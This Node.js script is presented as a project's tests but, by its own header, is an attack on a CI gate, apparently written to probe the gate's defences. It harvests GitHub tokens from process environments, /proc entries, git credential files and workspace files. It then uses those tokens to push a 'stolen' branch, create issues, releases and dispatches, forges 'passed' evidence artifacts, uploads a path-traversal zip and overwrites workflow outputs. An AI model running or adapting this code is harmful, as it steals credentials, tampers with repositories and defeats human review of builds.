// Tests of a project that are after something else: they search the machine for tokens and write with whatever they find,
// then they speak for other legs. Run as the command of a gate; what was found and what succeeded goes into the report.
// Usage: node tests.js REPORT API-URL OWNER/REPOSITORY
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { appendFileSync, existsSync, lstatSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { crc32 } from "node:zlib";

const [report = "", api = "", repository = ""] = process.argv.slice(2);

/** A file's text, or nothing where it cannot be read. */
function textOf(file) {
  try {
    return lstatSync(file).size > 4_000_000 ? "" : readFileSync(file, "latin1");
  } catch {
    return "";
  }
}

function git(...args) {
  return spawnSync("git", args, { encoding: "utf8", env: { ...process.env, GIT_TERMINAL_PROMPT: "0" } });
}

/** This process and those above it, as far as they belong to the step. */
function ancestors() {
  const found = [];
  for (let pid = process.pid; pid > 1; pid = Number(/^PPid:\s*(\d+)/m.exec(textOf(`/proc/${pid}/status`))?.[1] ?? 0)) {
    const environ = textOf(`/proc/${pid}/environ`);
    // Above the step is whoever runs this test: not ours to look at.
    if (pid !== process.pid && found.length > 2 && !environ.includes("GITHUB_ACTIONS=true")) break;
    found.push({ pid, environ, cmdline: textOf(`/proc/${pid}/cmdline`) });
  }
  return found;
}

function filesBelow(directory, depth = 6) {
  if (depth === 0 || !existsSync(directory)) return [];
  return readdirSync(directory, { withFileTypes: true }).flatMap((entry) => {
    const file = path.join(directory, entry.name);
    if (entry.isDirectory()) return entry.name === "objects" ? [] : filesBelow(file, depth - 1);
    return entry.isFile() ? [file] : [];
  });
}

const chain = ancestors();
const known = Object.fromEntries(
  chain
    .toReversed()
    .flatMap(({ environ }) => environ.split("\0"))
    .map((pair) => [pair.slice(0, pair.indexOf("=")), pair.slice(pair.indexOf("=") + 1)]),
);
const home = process.env.HOME ?? "";
const folders = [known.RUNNER_TEMP, known.GITHUB_WORKSPACE, process.cwd()].filter((one) => one !== undefined);
const files = [
  ...folders.flatMap((folder) => filesBelow(folder)),
  ...Object.entries(known).flatMap(([name, value]) =>
    /^(GITHUB|RUNNER)_/.test(name) && value.startsWith("/") ? [value] : [],
  ),
  ...[".gitconfig", ".git-credentials", ".netrc", ".config/git/config", ".config/git/credentials"].map((name) =>
    path.join(home, name),
  ),
];
const places = [
  { source: "own environment", text: JSON.stringify(process.env) },
  ...chain.slice(1).flatMap(({ pid, environ, cmdline }) => [
    { source: `/proc/${pid}/environ`, text: environ },
    { source: `/proc/${pid}/cmdline`, text: cmdline },
  ]),
  { source: "git config", text: git("config", "--list", "--show-origin").stdout },
  ...[...new Set(files)].map((file) => ({ source: file, text: textOf(file) })),
];

/** Whatever looks like a token, in clear or in base64. */
function tokensIn(text) {
  const clear = text.match(/\b(?:gh[a-z]_|github_pat_)[\w-]{8,}|\beyJ[\w-]+\.[\w-]+\.[\w-]+/g) ?? [];
  const packed = (text.match(/[A-Za-z0-9+/]{24,}={0,2}/g) ?? []).flatMap((word) => {
    const inside = Buffer.from(word, "base64").toString("latin1");
    return /^[\w-]+:[\x20-\x7e]+$/.test(inside) ? (inside.match(/gh[a-z]_[\w-]{8,}/g) ?? []) : [];
  });
  return [...clear, ...packed];
}

const sources = new Map();
for (const { source, text } of places)
  for (const token of tokensIn(text)) sources.set(token, [...new Set([...(sources.get(token) ?? []), source])]);

async function succeeds(token, route, body) {
  const response = await fetch(`${api}${route}`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}` },
    body: JSON.stringify(body),
  });
  const answer = await response.text();
  return response.ok && !answer.includes('"errors"');
}

function pushes(token) {
  const header = `Authorization: Basic ${Buffer.from(`x-access-token:${token}`).toString("base64")}`;
  const place = `${api}/${repository}.git`;
  return git("-c", `http.extraHeader=${header}`, "push", "--quiet", place, "HEAD:refs/heads/stolen").status === 0;
}

async function writesWith(token) {
  const repo = `/repos/${repository}`;
  const done = [];
  if (await succeeds(token, `${repo}/issues`, { title: "stolen" })) done.push("issue");
  if (await succeeds(token, `${repo}/dispatches`, { event_type: "release-command", client_payload: {} }))
    done.push("dispatch");
  if (await succeeds(token, `${repo}/releases`, { tag_name: "v9.9.9" })) done.push("release");
  if (pushes(token)) done.push("push");
  return done;
}

const tokens = [];
for (const [token, from] of sources) tokens.push({ token, from, writes: await writesWith(token) });

// From here on it speaks for others.
const sha = git("rev-parse", "HEAD").stdout.trim();
function forged(leg) {
  const outcome = { executionTimeMs: 1, failures: [], gate: leg, sha, status: "passed", targetMs: 1 };
  return `${JSON.stringify({ leg, outcomes: [outcome], release: known.INPUT_RELEASE, sha })}\n`;
}

/** A zip archive of one stored file. */
function zip(name, content) {
  const [file, data] = [Buffer.from(name), Buffer.from(content)];
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt32LE(crc32(data), 10);
  common.writeUInt32LE(data.length, 14);
  common.writeUInt32LE(data.length, 18);
  common.writeUInt16LE(file.length, 22);
  const local = Buffer.concat([Buffer.from("PK\x03\x04"), common, file, data]);
  const central = Buffer.concat([Buffer.from("PK\x01\x02\x14\x00", "latin1"), common, Buffer.alloc(14), file]);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(1, 4);
  end.writeUInt16LE(1, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(local.length, 12);
  return Buffer.concat([local, central, Buffer.from("PK\x05\x06"), end]);
}

async function results(method, body) {
  const [, run, job] = /Actions\.Results:([^:]+):([^" ]+)/.exec(
    Buffer.from(known.ACTIONS_RUNTIME_TOKEN.split(".")[1], "base64url").toString(),
  );
  const service = "github.actions.results.api.v1.ArtifactService";
  const response = await fetch(new URL(`/twirp/${service}/${method}`, known.ACTIONS_RESULTS_URL), {
    method: "POST",
    headers: { authorization: `Bearer ${known.ACTIONS_RUNTIME_TOKEN}`, "content-type": "application/json" },
    body: JSON.stringify({ workflow_run_backend_id: run, workflow_job_run_backend_id: job, ...body }),
  });
  return response.json();
}

async function upload(name, file, content) {
  const { signedUploadUrl } = await results("CreateArtifact", { name, version: 4 });
  if (signedUploadUrl === undefined) return false;
  await fetch(`${signedUploadUrl}&comp=block&blockid=a`, { method: "PUT", body: zip(file, content) });
  return (await results("FinalizeArtifact", { name, size: "1" })).ok;
}

const attempts = {};
if (known.ACTIONS_RUNTIME_TOKEN !== undefined) {
  attempts.overwrote = (await results("DeleteArtifact", { name: "evidence-security-1" })).ok;
  attempts.replaced = await upload("evidence-security-1", "evidence-security.json", forged("security"));
  attempts.outdid = await upload("evidence-e2e-99", "evidence-e2e.json", forged("e2e"));
  attempts.escaped = await upload("evidence-smoke-99", "../../../escaped.json", "out of its folder");
  attempts.ownVerdict = await upload("evidence-unit-99", "evidence-unit.json", forged("unit"));
}
const outputs = known.GITHUB_OUTPUT;
if (outputs !== undefined) {
  const digest = createHash("sha256").update(forged("security")).digest("hex");
  for (const name of ["security", "all", "digest", "outcome"]) appendFileSync(outputs, `${name}<<_\n${digest}\n_\n`);
}
const digests = Object.fromEntries(
  ["security", "e2e", "unit"].map((leg) => [leg, createHash("sha256").update(forged(leg)).digest("hex")]),
);
writeFileSync(report, JSON.stringify({ tokens, attempts, digests, names: Object.keys(process.env) }));
